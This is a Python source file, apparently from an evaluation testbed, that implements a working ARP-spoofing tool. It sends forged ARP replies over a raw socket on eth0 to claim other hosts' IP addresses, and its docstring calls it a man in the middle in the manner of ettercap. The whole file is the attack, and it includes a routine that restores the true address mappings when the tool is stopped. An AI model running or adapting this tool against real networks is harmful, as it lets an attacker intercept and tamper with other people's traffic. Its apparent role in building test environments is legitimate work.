"""Claim addresses by ARP (RFC 826): a man in the middle, or a second machine on one address.

A claim is ADDRESS, told to all, or ADDRESS@LISTENER=MAC, told to one listener: "ADDRESS is at my
MAC". When ended with SIGTERM, a man in the middle says the truth again where ``--truth
ADDRESS=MAC`` gives it, as ettercap does.
"""

import signal
import socket
import struct
import time
from pathlib import Path

from eval.testbed.tools.command import tool

app = tool()
_ETHERTYPE = 0x0806
_REPLY = 2
_ALL = "ff:ff:ff:ff:ff:ff"


@app.command()
def main(period_s: float, claims: list[str], truth: list[str] | None = None) -> None:
    """Say every claim every ``period_s`` until ended."""
    signal.signal(signal.SIGTERM, signal.default_int_handler)
    own = Path("/sys/class/net/eth0/address").read_text().strip()
    true_macs = dict(pair.split("=") for pair in truth or ())
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", _ETHERTYPE))
        try:
            while True:
                for claim in claims:
                    wire.send(_frame(claim, own, own))
                time.sleep(period_s)
        except KeyboardInterrupt:
            for claim in claims:
                if mac := true_macs.get(claim.partition("@")[0]):
                    wire.send(_frame(claim, own, mac))


def _frame(claim: str, sender: str, mac: str) -> bytes:
    """An ARP reply that puts an address at a MAC; without a listener it is gratuitous (RFC 5227)."""
    address, _, listener = claim.partition("@")
    listener_address, _, listener_mac = listener.partition("=")
    to = _bytes(listener_mac or _ALL)
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, _REPLY) + _bytes(mac) + socket.inet_aton(address)
    head = to + _bytes(sender) + struct.pack("!H", _ETHERTYPE)
    return head + arp + to + socket.inet_aton(listener_address or address)


def _bytes(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


if __name__ == "__main__":
    app()
